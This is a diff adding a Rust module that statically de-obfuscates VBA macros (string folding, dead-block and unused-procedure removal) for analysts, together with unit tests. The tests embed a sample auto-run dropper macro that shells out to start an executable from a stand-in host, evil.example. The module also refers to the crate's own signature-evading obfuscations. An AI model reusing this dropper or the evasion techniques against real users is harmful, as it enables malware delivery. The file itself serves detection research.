@@ -1,0 +1,329 @@
+//! Static de-obfuscation: the analyst-aid inverse of O2/O3/O4.
+//!
+//! The paper's related work (§II.B) covers de-obfuscation systems such as
+//! JSDES; this module provides the VBA equivalent for the transforms this
+//! crate generates:
+//!
+//! 1. **String folding** — constant string expressions (split
+//!    concatenations, `Chr` chains, `Replace` calls, decoder arrays) are
+//!    statically evaluated via [`crate::recover`] and replaced with plain
+//!    literals, undoing O2 and O3;
+//! 2. **Dead-block removal** — `If False Then … End If` blocks (O4's dummy
+//!    shields) are deleted;
+//! 3. **Unused-procedure removal** — `Private Sub`/`Function` definitions
+//!    never referenced elsewhere (O4's dummy helpers and orphaned decoder
+//!    functions) are deleted.
+//!
+//! De-obfuscation cannot invert O1 (the original names are gone); it only
+//! makes the surviving code readable.
+
+use crate::recover::recover_spans;
+use vbadet_vba::{tokenize, MacroAnalysis, TokenKind};
+
+/// What a de-obfuscation pass did.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct DeobfuscationReport {
+    /// The rewritten source.
+    pub source: String,
+    /// Constant string expressions folded to literals.
+    pub folded_strings: usize,
+    /// `If False` blocks removed.
+    pub removed_dead_blocks: usize,
+    /// Unreferenced private procedures removed.
+    pub removed_procedures: usize,
+}
+
+/// Runs all passes to a fixpoint (folding strings can orphan a decoder
+/// function, whose removal is picked up by the next round; bounded at 8
+/// rounds as a safety stop).
+pub fn deobfuscate(source: &str) -> DeobfuscationReport {
+    let mut report = DeobfuscationReport { source: source.to_string(), ..Default::default() };
+    for _ in 0..8 {
+        let folded = fold_strings(&report.source);
+        let dead = remove_dead_blocks(&folded.0);
+        let procs = remove_unused_private_procs(&dead.0);
+        let changed = folded.1 + dead.1 + procs.1;
+        report.folded_strings += folded.1;
+        report.removed_dead_blocks += dead.1;
+        report.removed_procedures += procs.1;
+        report.source = procs.0;
+        if changed == 0 {
+            break;
+        }
+    }
+    report
+}
+
+/// Pass 1: replace recoverable constant string expressions with literals.
+/// Expressions that are already a single plain literal are left untouched.
+fn fold_strings(source: &str) -> (String, usize) {
+    let spans = recover_spans(source);
+    let mut out = source.to_string();
+    let mut folded = 0usize;
+    for r in spans.iter().rev() {
+        let original = &source[r.start..r.end];
+        let literal = format!("\"{}\"", r.value.replace('"', "\"\""));
+        if original == literal {
+            continue; // already a plain literal
+        }
+        // Only fold when the value is printable; control characters would
+        // not survive a literal.
+        if !r.value.chars().all(|c| c == '\t' || (' '..='\u{FF}').contains(&c)) {
+            continue;
+        }
+        out.replace_range(r.start..r.end, &literal);
+        folded += 1;
+    }
+    (out, folded)
+}
+
+/// Pass 2: remove `If False Then … End If` blocks and single-line
+/// `If False Then <statement>` lines.
+fn remove_dead_blocks(source: &str) -> (String, usize) {
+    let mut out = String::with_capacity(source.len());
+    let mut removed = 0usize;
+    let mut skipping = false;
+    let mut depth = 0usize;
+    for line in source.split_inclusive('\n') {
+        let lower = line.trim().to_ascii_lowercase();
+        if skipping {
+            if lower.starts_with("if ") && lower.ends_with(" then") {
+                depth += 1;
+            } else if lower == "end if" {
+                if depth == 0 {
+                    skipping = false;
+                    continue;
+                }
+                depth -= 1;
+            }
+            continue;
+        }
+        if lower == "if false then" {
+            skipping = true;
+            depth = 0;
+            removed += 1;
+            continue;
+        }
+        if lower.starts_with("if false then ") {
+            removed += 1;
+            continue;
+        }
+        out.push_str(line);
+    }
+    (out, removed)
+}
+
+/// Pass 3: remove `Private Sub`/`Private Function` definitions whose name is
+/// never referenced outside their own body. Entry-point names are kept
+/// regardless.
+fn remove_unused_private_procs(source: &str) -> (String, usize) {
+    let analysis = MacroAnalysis::new(source);
+    let spans = analysis.procedure_body_spans();
+    if spans.is_empty() {
+        return (source.to_string(), 0);
+    }
+
+    // Reference counts of each identifier outside every procedure span are
+    // expensive to split exactly; instead count occurrences globally and
+    // inside the definition, and compare.
+    let tokens = tokenize(source);
+    let count_in = |name: &str, lo: usize, hi: usize| -> usize {
+        tokens
+            .iter()
+            .filter(|t| t.start >= lo && t.end <= hi)
+            .filter(|t| {
+                matches!(&t.kind, TokenKind::Identifier(i) if i.eq_ignore_ascii_case(name))
+            })
+            .count()
+    };
+
+    let mut to_remove: Vec<(usize, usize)> = Vec::new();
+    let mut removed = 0usize;
+    for &(lo, hi) in &spans {
+        // The span starts at the `Sub`/`Function` keyword; widen to the
+        // start of its line so the `Private` modifier is visible (and
+        // removed along with the body).
+        let line_start = source[..lo].rfind('\n').map(|p| p + 1).unwrap_or(0);
+        let header_end = source[lo..hi].find('\n').map(|p| lo + p).unwrap_or(hi);
+        let header = &source[line_start..header_end];
+        let lower = header.trim_start().to_ascii_lowercase();
+        // Removable: private procedures, and plain `Function`s (a function
+        // that is never *called* is inert — this is what orphans decoder
+        // functions after string folding). Public `Sub`s are kept: buttons
+        // and ribbon hooks can invoke them by name from outside the text.
+        let name_index = if lower.starts_with("private sub") || lower.starts_with("private function")
+        {
+            2
+        } else if lower.starts_with("function ") {
+            1
+        } else {
+            continue;
+        };
+        // Name = next word, stripping the parameter list ("Used()" -> "Used").
+        let name: Option<String> = header.split_whitespace().nth(name_index).map(|w| {
+            w.chars().take_while(|c| c.is_alphanumeric() || *c == '_').collect()
+        });
+        let Some(name) = name.filter(|n| !n.is_empty()) else { continue };
+        if crate::names::is_entry_point(&name) {
+            continue;
+        }
+        let total = count_in(&name, 0, source.len());
+        let inside = count_in(&name, line_start, hi);
+        if total == inside {
+            to_remove.push((line_start, hi));
+            removed += 1;
+        }
+    }
+
+    let mut out = source.to_string();
+    for (lo, hi) in to_remove.into_iter().rev() {
+        // Also eat the trailing newline if present.
+        let end = if out[hi..].starts_with("\r\n") {
+            hi + 2
+        } else if out[hi..].starts_with('\n') {
+            hi + 1
+        } else {
+            hi
+        };
+        out.replace_range(lo..end, "");
+    }
+    (out, removed)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{Obfuscator, Technique};
+    use rand::rngs::StdRng;
+    use rand::SeedableRng;
+
+    const DROPPER: &str = "Sub AutoOpen()\r\n\
+        Dim target As String\r\n\
+        target = \"http://evil.example/stage.exe\"\r\n\
+        Shell \"cmd /c start \" & target, 0\r\n\
+        End Sub\r\n";
+
+    #[test]
+    fn folds_split_strings_back_to_literals() {
+        let mut rng = StdRng::seed_from_u64(1);
+        let obf = crate::split::apply(DROPPER, &mut rng);
+        assert!(!obf.contains("\"http://evil.example/stage.exe\""));
+        let report = deobfuscate(&obf);
+        assert!(report.folded_strings > 0);
+        assert!(
+            report.source.contains("\"http://evil.example/stage.exe\""),
+            "{}",
+            report.source
+        );
+    }
+
+    #[test]
+    fn folds_encoded_strings_and_removes_orphan_decoder() {
+        for seed in 0..10 {
+            let mut rng = StdRng::seed_from_u64(seed);
+            let obf = crate::encoding::apply(DROPPER, &mut rng);
+            let report = deobfuscate(&obf);
+            assert!(
+                report.source.contains("\"http://evil.example/stage.exe\""),
+                "seed {seed}:\n{}",
+                report.source
+            );
+            // If the decoder-function scheme was used, the decoder must be
+            // gone after folding orphaned it.
+            assert!(
+                !report.source.to_ascii_lowercase().contains("end function"),
+                "seed {seed}: decoder survived:\n{}",
+                report.source
+            );
+        }
+    }
+
+    #[test]
+    fn removes_dead_if_false_blocks() {
+        let src = "Sub A()\r\n\
+                   x = 1\r\n\
+                   If False Then\r\n\
+                       leftover = \"never\"\r\n\
+                   End If\r\n\
+                   y = 2\r\n\
+                   End Sub\r\n";
+        let report = deobfuscate(src);
+        assert_eq!(report.removed_dead_blocks, 1);
+        assert!(!report.source.contains("never"));
+        assert!(report.source.contains("x = 1") && report.source.contains("y = 2"));
+    }
+
+    #[test]
+    fn keeps_truthy_conditionals() {
+        let src = "Sub A()\r\nIf ready Then\r\n    x = 1\r\nEnd If\r\nEnd Sub\r\n";
+        let report = deobfuscate(src);
+        assert_eq!(report.removed_dead_blocks, 0);
+        assert!(report.source.contains("x = 1"));
+    }
+
+    #[test]
+    fn removes_unreferenced_private_procs_only() {
+        let src = "Sub Main()\r\n    Call Used\r\nEnd Sub\r\n\
+                   Private Sub Used()\r\n    x = 1\r\nEnd Sub\r\n\
+                   Private Sub Orphan()\r\n    y = 2\r\nEnd Sub\r\n";
+        let report = deobfuscate(src);
+        assert_eq!(report.removed_procedures, 1);
+        assert!(report.source.contains("Sub Used"));
+        assert!(!report.source.contains("Orphan"));
+    }
+
+    #[test]
+    fn logic_obfuscation_is_substantially_reverted() {
+        let mut rng = StdRng::seed_from_u64(5);
+        let obf = Obfuscator::new()
+            .with(Technique::LogicWithIntensity(40))
+            .apply(DROPPER, &mut rng)
+            .source;
+        assert!(obf.len() > DROPPER.len() * 3);
+        let report = deobfuscate(&obf);
+        assert!(report.removed_procedures > 0);
+        // Most of the bloat must be gone, and the payload intact.
+        assert!(
+            report.source.len() < obf.len() / 2,
+            "{} -> {}",
+            obf.len(),
+            report.source.len()
+        );
+        assert!(report.source.contains("AutoOpen"));
+        assert!(report.source.contains("http://evil.example/stage.exe"));
+    }
+
+    #[test]
+    fn full_pipeline_restores_signature_visibility() {
+        // The end-to-end claim: obfuscation breaks naive signature matching,
+        // de-obfuscation restores it (for the string-level techniques).
+        let mut rng = StdRng::seed_from_u64(11);
+        let obf = Obfuscator::new()
+            .with(Technique::Split)
+            .with(Technique::Encoding)
+            .with(Technique::LogicWithIntensity(25))
+            .apply(DROPPER, &mut rng)
+            .source;
+        assert!(!obf.contains("http://evil.example/stage.exe"));
+        let report = deobfuscate(&obf);
+        assert!(report.source.contains("http://evil.example/stage.exe"));
+        assert!(report.source.contains("cmd /c start "));
+    }
+
+    #[test]
+    fn idempotent_on_clean_code() {
+        let report = deobfuscate(DROPPER);
+        assert_eq!(report.folded_strings, 0);
+        assert_eq!(report.removed_dead_blocks, 0);
+        assert_eq!(report.removed_procedures, 0);
+        assert_eq!(report.source, DROPPER);
+    }
+
+    #[test]
+    fn total_on_arbitrary_text() {
+        let _ = deobfuscate("");
+        let _ = deobfuscate("If False Then");
+        let _ = deobfuscate("Private Sub");
+        let _ = deobfuscate("\"unterminated");
+    }
+}
